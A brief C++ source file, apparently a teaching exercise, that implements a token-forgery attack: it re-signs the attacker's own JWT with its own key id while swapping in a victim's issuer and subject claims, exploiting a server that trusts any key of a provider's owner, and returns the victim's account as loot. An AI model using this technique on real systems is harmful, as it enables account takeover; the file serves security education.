// Believes: the server knows every key of a provider's owner.
#include "rogue_provider.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  auto token = evidence.own_token;
  token.header.set("kid", evidence.own_key.id());
  token.claims.set("iss", evidence.victim.issuer);
  token.claims.set("sub", evidence.victim.subject);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
